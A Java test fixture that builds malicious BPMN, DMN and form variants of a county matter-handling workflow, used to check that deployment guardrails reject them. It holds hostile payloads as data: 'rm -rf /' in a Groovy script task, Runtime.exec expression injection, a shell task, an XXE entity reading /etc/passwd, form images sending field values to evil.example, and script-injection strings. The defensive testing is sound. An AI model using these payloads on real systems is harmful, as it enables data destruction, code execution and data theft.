package org.civicloop.variant;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.civicloop.variant.Models.*;

/**
 * Models a unit might try to deploy that the guardrails must refuse, each derived from the county's own
 * model by one edit, so each fails for the one reason its name gives.
 *
 * @see GuardrailsUnitTests
 * @see VariantGuardrailsIntegrationTests
 */
final class MaliciousModels {

	/**
	 * @param rule the violation expected; {@code null} when the refusal happens before the guardrails
	 *        (wrong tenant: 403, too large a request: 413)
	 * @param shared whether the rule holds for the county's shared deployments too, not only for variants
	 */
	record Case(String name, Map<String, byte[]> files, String rule, boolean shared) {

		Case(String name, Map<String, byte[]> files, String rule) {
			this(name, files, rule, false);
		}

		Case alsoShared() {
			return new Case(name, files, rule, true);
		}

		@Override
		public String toString() {
			return name;
		}

	}

	private MaliciousModels() {
	}

	private static final String SIGN_FOR_PROPERTIES = """
			<camunda:properties>
			          <camunda:property name="civicloop.stage" value="sign-for" />
			        </camunda:properties>""".strip();

	private static final String CLOSE = "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:delegateExpression=\"${closeMatterDelegate}\">";

	private static final String ON_SITE = "<bpmn:userTask id=\"task_onSiteVerification\" name=\"现场核实\" camunda:candidateGroups=\"unit-shangtang\" />";

	static List<Case> all() {
		String p = process();
		var cases = new ArrayList<Case>();
		cases.add(bpmn("a script task", replace(p,
				"<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:delegateExpression=\"${closeMatterDelegate}\">",
				"<bpmn:scriptTask id=\"task_closeMatter\" name=\"办结归档\" scriptFormat=\"groovy\"><bpmn:script>'rm -rf /'.execute()</bpmn:script>")
			.replace("    </bpmn:serviceTask>\n    <bpmn:endEvent id=\"endEvent_matterClosed\"", "    </bpmn:scriptTask>\n    <bpmn:endEvent id=\"endEvent_matterClosed\""),
				"script"));
		cases.add(bpmn("a Groovy execution listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
				+ "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">System.exit(0)</camunda:script></camunda:executionListener>"),
				"script").alsoShared());
		cases.add(bpmn("camunda:class on a service task", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\"",
				"camunda:class=\"org.civicloop.matter.engine.CloseMatterDelegate\""), "java-class"));
		cases.add(bpmn("a delegate bean outside the allow-list", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\"",
				"camunda:delegateExpression=\"${matterProcess}\""), "bean"));
		cases.add(bpmn("${''.getClass()...} in a task name", replace(p, "<bpmn:userTask id=\"task_signFor\" name=\"签收\"",
				"<bpmn:userTask id=\"task_signFor\" name=\"${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}\""), "expression"));
		cases.add(bpmn("a condition calling a method", replace(p, "${reviewDecision == 'accept'}",
				"${reviewDecision.equals('accept')}"), "expression"));
		cases.add(bpmn("a condition in JavaScript", replace(p, "${reviewDecision == 'accept'}",
				"reviewDecision == 'accept'").replace("<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">reviewDecision",
						"<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\">reviewDecision"),
				"script"));
		cases.add(bpmn("a method expression on a service task", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\"",
				"camunda:expression=\"${execution.getProcessEngineServices().getRuntimeService()}\""), "expression"));
		cases.add(bpmn("property access to the engine in candidate groups", replace(p,
				"camunda:candidateGroups=\"dispatch-centre\">\n      <bpmn:extensionElements>\n        <camunda:properties>\n          <camunda:property name=\"civicloop.stage\" value=\"review\" />",
				"camunda:candidateGroups=\"${execution.processEngineServices.identityService}\">\n      <bpmn:extensionElements>\n        <camunda:properties>\n          <camunda:property name=\"civicloop.stage\" value=\"review\" />"),
				"expression"));
		cases.add(bpmn("a timer computed by a function call", replace(p, "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${signForWarnAt}</bpmn:timeDate>",
				"<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${dateTime().plusDays(1)}</bpmn:timeDate>"), "expression"));
		cases.add(bpmn("an input parameter with a script", replace(p, "<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>",
				"<camunda:inputParameter name=\"alertKind\"><camunda:script scriptFormat=\"javascript\">java.lang.System.exit(1)</camunda:script></camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>"),
				"script"));
		cases.add(bpmn("an HTTP connector", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\">",
				"><bpmn:extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></bpmn:extensionElements>"),
				"java-class"));
		cases.add(bpmn("a call activity", replace(p, "</bpmn:process>",
				"<bpmn:callActivity id=\"call_other\" calledElement=\"other-process\" /></bpmn:process>"), "element"));
		cases.add(bpmn("an event sub-process", replace(p, "</bpmn:process>",
				"<bpmn:subProcess id=\"sub_anytime\" triggeredByEvent=\"true\"><bpmn:startEvent id=\"sub_start\"><bpmn:messageEventDefinition messageRef=\"Message_citizenEvaluation\" /></bpmn:startEvent>"
						+ "<bpmn:endEvent id=\"sub_end\" /><bpmn:sequenceFlow id=\"sub_flow\" sourceRef=\"sub_start\" targetRef=\"sub_end\" /></bpmn:subProcess></bpmn:process>"),
				"element"));
		cases.add(bpmn("the return visit removed", replace(p, "<camunda:property name=\"civicloop.stage\" value=\"return-visit\" />", ""),
				"stage-missing"));
		cases.add(bpmn("review and return visit swapped", replace(replace(p,
				"<camunda:property name=\"civicloop.stage\" value=\"return-visit\" />", "<camunda:property name=\"civicloop.stage\" value=\"SWAP\" />"),
				"<camunda:property name=\"civicloop.stage\" value=\"review\" />", "<camunda:property name=\"civicloop.stage\" value=\"return-visit\" />")
			.replace("<camunda:property name=\"civicloop.stage\" value=\"SWAP\" />", "<camunda:property name=\"civicloop.stage\" value=\"review\" />"),
				"stage-order"));
		cases.add(bpmn("a path around sign-for", replace(p, "</bpmn:process>",
				"<bpmn:sequenceFlow id=\"flow_bypass\" sourceRef=\"gateway_mergeDispatch\" targetRef=\"gateway_mergeHandling\" /></bpmn:process>"),
				"stage-order"));
		cases.add(bpmn("an interrupting timer around the return visit", replace(p, "</bpmn:process>", """
				<bpmn:boundaryEvent id="timer_skipVisit" attachedToRef="task_returnVisit"><bpmn:timerEventDefinition>\
				<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1M</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>
				<bpmn:sequenceFlow id="flow_skipVisit" sourceRef="timer_skipVisit" targetRef="task_closeMatter" /></bpmn:process>"""),
				"stage-order"));
		cases.add(bpmn("a warning branch that joins the main flow", replace(p,
				"<bpmn:sequenceFlow id=\"flow_signForWarningRecorded\" sourceRef=\"task_recordSignForWarning\" targetRef=\"endEvent_signForWarned\">",
				"<bpmn:sequenceFlow id=\"flow_signForWarningRecorded\" sourceRef=\"task_recordSignForWarning\" targetRef=\"task_closeMatter\">"),
				"stage-bypass"));
		cases.add(bpmn("a warning branch that terminates the matter", replace(p,
				"<bpmn:endEvent id=\"endEvent_signForWarned\" name=\"已预警\">",
				"<bpmn:endEvent id=\"endEvent_signForWarned\" name=\"已预警\"><bpmn:terminateEventDefinition id=\"terminate\" />"),
				"stage-bypass"));
		cases.add(bpmn("the sign-for warning timer removed", replace(p,
				"<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${signForWarnAt}</bpmn:timeDate>",
				"<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${signForDue}</bpmn:timeDate>"), "warning-timer"));
		cases.add(bpmn("time limits read from the latest table of the tenant", replace(p,
				"camunda:decisionRefBinding=\"version\" camunda:decisionRefVersion=\"${timeLimitsVersion}\" camunda:decisionRefTenantId=\"${timeLimitsTenant}\"",
				""), "decision-binding"));
		cases.add(bpmn("another process key", replace(p, "<bpmn:process id=\"matter-handling\"", "<bpmn:process id=\"shortcut\""),
				"definition"));
		cases.add(bpmn("an embedded form key", replace(p, "camunda:formRef=\"sign-for\" camunda:formRefBinding=\"deployment\"",
				"camunda:formKey=\"embedded:deployment:sign-for.html\""), "form"));
		cases.add(dmn("a DMN table in JavaScript", replace(timeLimits(),
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\">",
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\" expressionLanguage=\"javascript\">"), "feel-only"));
		cases.add(dmn("a FEEL external function", replace(timeLimits(),
				"<outputEntry id=\"rule_limit01_out1\"><text>1</text></outputEntry>",
				"<outputEntry id=\"rule_limit01_out1\"><text>function(x) external { java: { class: \"java.lang.System\", method signature: \"exit(int)\" } }</text></outputEntry>"),
				"feel-only"));
		cases.add(dmn("a loosened time limit", withRoadDamageSignFor(timeLimits(), 48), "time-limit"));
		cases.add(dmn("a time-limits table reading the grid code", replace(timeLimits(),
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>urgency</text></inputExpression>",
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>if gridCode = \"QS-ST-01\" then \"normal\" else urgency</text></inputExpression>"),
				"decision-inputs"));
		cases.add(dmn("routing to a department that does not exist", routing().replace("&quot;dept-transport&quot;", "&quot;dept-nowhere&quot;"),
				"routing"));
		cases.add(new Case("a table with another key", files("other.dmn", replace(timeLimits(), "<decision id=\"time-limits\"", "<decision id=\"other-table\"")),
				"definition"));
		cases.add(new Case("a Groovy file beside the model", files("tamper.groovy", "System.exit(0)"), "resource-type"));
		cases.add(new Case("DOCTYPE with an external entity", files(TIME_LIMITS, """
				<?xml version="1.0"?>
				<!DOCTYPE definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
				<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="&secret;" namespace="x"/>
				"""), "doctype"));
		cases.add(new Case("50,000 elements", files(PROCESS, fiftyThousandElements()), "element-count"));
		cases.add(new Case("a 5 MB model", files(PROCESS, p + "<!--" + "x".repeat(5 * 1024 * 1024) + "-->"), null));
		cases.addAll(builtInBehaviours(p));
		cases.addAll(formComponents());
		cases.addAll(whoDoesTheWork(p));
		return cases;
	}

	/** The engine's other ways to run code: built-in task types, field injection, the legacy namespaces, listeners. */
	private static List<Case> builtInBehaviours(String p) {
		var cases = new ArrayList<Case>();
		cases.add(bpmn("a shell task with an injected command", replace(p, CLOSE, "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:type=\"shell\">"
				+ "<bpmn:extensionElements><camunda:field name=\"command\"><camunda:string>touch</camunda:string></camunda:field>"
				+ "<camunda:field name=\"arg1\"><camunda:string>/tmp/owned</camunda:string></camunda:field></bpmn:extensionElements>"),
				"java-class").alsoShared());
		cases.add(bpmn("a mail task", replace(p, CLOSE, "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:type=\"mail\">"
				+ "<bpmn:extensionElements><camunda:field name=\"to\" stringValue=\"x@example.com\" /></bpmn:extensionElements>"),
				"java-class").alsoShared());
		cases.add(bpmn("field injection into an allow-listed delegate", replace(p, CLOSE, CLOSE
				+ "<bpmn:extensionElements><camunda:field name=\"satisfaction\" stringValue=\"satisfied\" /></bpmn:extensionElements>"),
				"java-class").alsoShared());
		cases.add(bpmn("activiti:class in the legacy namespace", legacy(replace(p, CLOSE,
				"<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" activiti:class=\"org.civicloop.Evil\">")), "namespace").alsoShared());
		cases.add(bpmn("activiti:formKey in the legacy namespace", legacy(replace(p, "camunda:formRef=\"sign-for\" camunda:formRefBinding=\"deployment\"",
				"activiti:formKey=\"embedded:app:evil.html\"")), "namespace").alsoShared());
		cases.add(bpmn("a retry cycle in the fox namespace", replace(p, "xmlns:modeler=", "xmlns:fox=\"http://www.camunda.com/fox\" xmlns:modeler=")
			.replace(CLOSE, CLOSE + "<bpmn:extensionElements><fox:failedJobRetryTimeCycle>R5/PT1S</fox:failedJobRetryTimeCycle></bpmn:extensionElements>"),
				"namespace").alsoShared());
		cases.add(bpmn("an allow-listed delegate as an execution listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
				+ "<camunda:executionListener event=\"start\" delegateExpression=\"${closeMatterDelegate}\" />"), "listener").alsoShared());
		cases.add(bpmn("an allow-listed delegate as a task listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
				+ "<camunda:taskListener event=\"create\" delegateExpression=\"${startReworkDelegate}\" />"), "listener").alsoShared());
		cases.add(bpmn("a human performer expression", replace(p, "<bpmn:incoming>flow_toSignFor</bpmn:incoming>",
				"<bpmn:incoming>flow_toSignFor</bpmn:incoming><bpmn:humanPerformer><bpmn:resourceAssignmentExpression><bpmn:formalExpression>"
						+ "housing.li</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:humanPerformer>"), "performer").alsoShared());
		cases.add(bpmn("an attribute the engine does not need", replace(p, CLOSE,
				"<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:delegateExpression=\"${closeMatterDelegate}\" camunda:whatever=\"x\">"),
				"attribute").alsoShared());
		cases.add(bpmn("a timer repeating every second", replace(p, "</bpmn:process>", """
				<bpmn:boundaryEvent id="timer_storm" cancelActivity="false" attachedToRef="task_handle"><bpmn:timerEventDefinition>\
				<bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:boundaryEvent>
				<bpmn:endEvent id="end_storm" /><bpmn:sequenceFlow id="flow_storm" sourceRef="timer_storm" targetRef="end_storm" /></bpmn:process>"""),
				"timer-cycle").alsoShared());
		cases.add(bpmn("a multi-instance of 100,000,000", replace(replace(p, "<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_onSiteVerification\">"), "</bpmn:process>", """
				<bpmn:userTask id="task_onSiteVerification" name="现场核实" camunda:candidateGroups="unit-shangtang">\
				<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>100000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>
				<bpmn:sequenceFlow id="flow_verified" sourceRef="task_onSiteVerification" targetRef="task_review" /></bpmn:process>"""),
				"multi-instance").alsoShared());
		cases.add(bpmn("an output parameter copying the reporter's contact", replace(p,
				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>",
				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>"
						+ "<camunda:outputParameter name=\"contact\">${reporterName} ${reporterPhone}</camunda:outputParameter>"),
				"personal-data").alsoShared());
		cases.add(dmn("a table reading the reporter's phone", replace(timeLimits(),
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>urgency</text></inputExpression>",
				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>reporterPhone</text></inputExpression>"),
				"personal-data").alsoShared());
		return cases;
	}

	/** Forms are shown inside Tasklist's own page: nothing in them may load or run anything. */
	private static List<Case> formComponents() {
		var cases = new ArrayList<Case>();
		cases.add(form("a form with an iframe allowed to run scripts and navigate the page",
				"{\"type\":\"iframe\",\"id\":\"evil\",\"url\":\"https://evil.example/\",\"security\":{\"allowScripts\":true,\"allowTopNavigation\":true}}"));
		cases.add(form("a form image whose source sends field values away",
				"{\"type\":\"image\",\"id\":\"evil\",\"source\":\"=\\\"https://evil.example/?\\\" + returnNote\"}"));
		cases.add(form("a form with raw HTML", "{\"type\":\"html\",\"id\":\"evil\",\"content\":\"<script>alert(1)</script>\"}"));
		cases.add(form("a form text with a markdown image", "{\"type\":\"text\",\"id\":\"evil\",\"text\":\"![x](https://evil.example/t.png)\"}"));
		cases.add(form("a form text with an HTML image", "{\"type\":\"text\",\"id\":\"evil\",\"text\":\"<img src=x onerror=alert(1)>\"}"));
		return cases;
	}

	/** The stages in order are not enough: who does each of them, and where the application's steps stand. */
	private static List<Case> whoDoesTheWork(String p) {
		var cases = new ArrayList<Case>();
		cases.add(bpmn("multi-instance with cardinality 0 and a pre-filled decision on sign-for", replace(replace(p, SIGN_FOR_PROPERTIES,
				SIGN_FOR_PROPERTIES + "<camunda:inputOutput><camunda:outputParameter name=\"signForDecision\">sign</camunda:outputParameter></camunda:inputOutput>"),
				"<bpmn:outgoing>flow_toSignForDecision</bpmn:outgoing>", "<bpmn:outgoing>flow_toSignForDecision</bpmn:outgoing>"
						+ "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>0</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"),
				"stage-task"));
		cases.add(bpmn("review offered to the village committee", replace(p,
				"<bpmn:userTask id=\"task_review\" name=\"审核报结\" camunda:formRef=\"review\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
				"<bpmn:userTask id=\"task_review\" name=\"审核报结\" camunda:formRef=\"review\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"unit-shangtang\">"),
				"stage-performer"));
		cases.add(bpmn("the return visit offered to the village committee", replace(p,
				"<bpmn:userTask id=\"task_returnVisit\" name=\"回访\" camunda:formRef=\"return-visit\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
				"<bpmn:userTask id=\"task_returnVisit\" name=\"回访\" camunda:formRef=\"return-visit\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre,unit-shangtang\">"),
				"stage-performer"));
		cases.add(bpmn("sign-for given to a named cadre", replace(p, "camunda:candidateGroups=\"${leadDepartment}\" camunda:dueDate=\"${signForDue}\"",
				"camunda:candidateGroups=\"${leadDepartment}\" camunda:candidateUsers=\"shangtang.yang\" camunda:dueDate=\"${signForDue}\""), "stage-performer"));
		cases.add(bpmn("re-dispatch given to the village committee", replace(p,
				"<bpmn:userTask id=\"task_redispatch\" name=\"改派\" camunda:formRef=\"redispatch\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
				"<bpmn:userTask id=\"task_redispatch\" name=\"改派\" camunda:formRef=\"redispatch\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"unit-shangtang\">"),
				"stage-performer"));
		cases.add(bpmn("an own step given to the intake systems", Models.withOnSiteVerification(p, "intake-systems"), "performer"));
		cases.add(bpmn("an own step given to another town's village", Models.withOnSiteVerification(p, "unit-hebin"), "performer"));
		cases.add(bpmn("a step before registration", replace(replace(p,
				"<bpmn:sequenceFlow id=\"flow_toRegister\" sourceRef=\"startEvent_matterReported\" targetRef=\"task_registerMatter\">",
				"<bpmn:sequenceFlow id=\"flow_toRegister\" sourceRef=\"startEvent_matterReported\" targetRef=\"task_before\">"), "</bpmn:process>",
				"<bpmn:manualTask id=\"task_before\" /><bpmn:sequenceFlow id=\"flow_afterBefore\" sourceRef=\"task_before\" targetRef=\"task_registerMatter\" /></bpmn:process>"),
				"before-registration"));
		cases.add(bpmn("a message start event", replace(p, "<bpmn:outgoing>flow_toRegister</bpmn:outgoing>",
				"<bpmn:outgoing>flow_toRegister</bpmn:outgoing><bpmn:messageEventDefinition messageRef=\"Message_citizenEvaluation\" />"),
				"before-registration"));
		cases.add(bpmn("the matter closed on a warning branch", replace(p,
				"<bpmn:serviceTask id=\"task_recordSignForWarning\" name=\"记录签收预警\" camunda:delegateExpression=\"${recordDeadlineAlertDelegate}\">",
				"<bpmn:serviceTask id=\"task_recordSignForWarning\" name=\"记录签收预警\" camunda:delegateExpression=\"${closeMatterDelegate}\">"),
				"stage-bypass"));
		cases.add(bpmn("the matter closed and then handled again", replace(p,
				"<bpmn:sequenceFlow id=\"flow_closed\" sourceRef=\"task_closeMatter\" targetRef=\"endEvent_matterClosed\">",
				"<bpmn:sequenceFlow id=\"flow_closed\" sourceRef=\"task_closeMatter\" targetRef=\"gateway_mergeHandling\">"),
				"delegate-place"));
		cases.add(bpmn("a forged warning on the main flow", replace(replace(p,
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_forged\">"), "</bpmn:process>", """
				<bpmn:serviceTask id="task_forged" camunda:delegateExpression="${recordDeadlineAlertDelegate}"><bpmn:extensionElements><camunda:inputOutput>\
				<camunda:inputParameter name="alertKind">urge</camunda:inputParameter><camunda:inputParameter name="alertStage">handle</camunda:inputParameter>\
				</camunda:inputOutput></bpmn:extensionElements></bpmn:serviceTask>
				<bpmn:sequenceFlow id="flow_afterForged" sourceRef="task_forged" targetRef="task_review" /></bpmn:process>"""),
				"delegate-place"));
		cases.add(bpmn("a warning recorded as an urge", replace(p,
				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>",
				"<camunda:inputParameter name=\"alertKind\">urge</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>"),
				"delegate-place"));
		cases.add(bpmn("rework started before the return visit", replace(replace(p,
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_earlyRework\">"), "</bpmn:process>",
				"<bpmn:serviceTask id=\"task_earlyRework\" camunda:delegateExpression=\"${startReworkDelegate}\" />"
						+ "<bpmn:sequenceFlow id=\"flow_afterEarlyRework\" sourceRef=\"task_earlyRework\" targetRef=\"task_review\" /></bpmn:process>"),
				"stage-order"));
		cases.add(bpmn("co-handling repeated over another collection", replace(p,
				"<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${coDepartments}\" camunda:elementVariable=\"coDepartment\" />",
				"<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${handlingReplies}\" camunda:elementVariable=\"coDepartment\" />"),
				"multi-instance"));
		cases.add(bpmn("an own step's output mapping naming the handler", replace(Models.withOnSiteVerification(p, "unit-shangtang"),
				ON_SITE, "<bpmn:userTask id=\"task_onSiteVerification\" name=\"现场核实\" camunda:candidateGroups=\"unit-shangtang\">"
						+ "<bpmn:extensionElements><camunda:inputOutput><camunda:outputParameter name=\"signedBy\">shangtang.yang</camunda:outputParameter>"
						+ "</camunda:inputOutput></bpmn:extensionElements></bpmn:userTask>"), "mapping"));
		cases.add(bpmn("a loop of service tasks between registration and routing", replace(replace(p,
				"<bpmn:sequenceFlow id=\"flow_toRoute\" sourceRef=\"task_registerMatter\" targetRef=\"rule_routeMatter\">",
				"<bpmn:sequenceFlow id=\"flow_toRoute\" sourceRef=\"task_registerMatter\" targetRef=\"gateway_spin\">"), "</bpmn:process>", """
				<bpmn:exclusiveGateway id="gateway_spin" /><bpmn:manualTask id="task_spin" />
				<bpmn:sequenceFlow id="flow_spin" sourceRef="gateway_spin" targetRef="task_spin" />
				<bpmn:sequenceFlow id="flow_spinBack" sourceRef="task_spin" targetRef="gateway_spin" />
				<bpmn:sequenceFlow id="flow_spinOut" sourceRef="gateway_spin" targetRef="rule_routeMatter"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${false}</bpmn:conditionExpression></bpmn:sequenceFlow>
				</bpmn:process>"""), "loop"));
		cases.add(bpmn("a loop of a gateway and a manual task inside the handling and review loop", replace(replace(p,
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"gateway_spin\">"), "</bpmn:process>", """
				<bpmn:exclusiveGateway id="gateway_spin" /><bpmn:manualTask id="task_spin" />
				<bpmn:sequenceFlow id="flow_spin" sourceRef="gateway_spin" targetRef="task_spin" />
				<bpmn:sequenceFlow id="flow_spinBack" sourceRef="task_spin" targetRef="gateway_spin" />
				<bpmn:sequenceFlow id="flow_spinOut" sourceRef="gateway_spin" targetRef="task_review"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${false}</bpmn:conditionExpression></bpmn:sequenceFlow>
				</bpmn:process>"""), "loop"));
		cases.add(bpmn("a one-second timer", replace(p, "</bpmn:process>", """
				<bpmn:boundaryEvent id="timer_fast" cancelActivity="false" attachedToRef="task_review"><bpmn:timerEventDefinition>\
				<bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1S</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:boundaryEvent>
				<bpmn:endEvent id="end_fast" /><bpmn:sequenceFlow id="flow_fast" sourceRef="timer_fast" targetRef="end_fast" /></bpmn:process>"""),
				"timer-cycle").alsoShared());
		cases.add(dmn("routing to a role group", routing().replace("&quot;dept-transport&quot;", "&quot;intake-systems&quot;"), "routing"));
		cases.add(dmn("routing to the dispatch centre", routing().replace("&quot;dept-transport&quot;", "&quot;dispatch-centre&quot;"), "routing"));
		return cases;
	}

	private static String legacy(String process) {
		return replace(process, "xmlns:modeler=", "xmlns:activiti=\"http://activiti.org/bpmn\" xmlns:modeler=");
	}

	/** The county's model with its sign-for form carrying one more component. */
	private static Case form(String name, String component) {
		var files = new java.util.LinkedHashMap<>(files(PROCESS, process()));
		files.putAll(forms());
		String signFor = new String(files.get("sign-for.form"), java.nio.charset.StandardCharsets.UTF_8);
		files.put("sign-for.form", replace(signFor, "\"components\": [", "\"components\": [" + component + ",")
			.getBytes(java.nio.charset.StandardCharsets.UTF_8));
		return new Case(name, files, "form-component", true);
	}

	private static Case bpmn(String name, String process, String rule) {
		var files = new java.util.LinkedHashMap<>(files(PROCESS, process));
		files.putAll(forms());
		return new Case(name, files, rule);
	}

	private static Case dmn(String name, String table, String rule) {
		return new Case(name, files(table.contains("route-matter") ? ROUTING : TIME_LIMITS, table), rule);
	}

	private static String fiftyThousandElements() {
		var body = new StringBuilder("<?xml version=\"1.0\"?><bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\""
				+ " id=\"d\" targetNamespace=\"x\"><bpmn:process id=\"matter-handling\" isExecutable=\"true\">");
		for (int i = 0; i < 50_000; i++) {
			body.append("<bpmn:task id=\"t").append(i).append("\"/>");
		}
		return body.append("</bpmn:process></bpmn:definitions>").toString();
	}

}
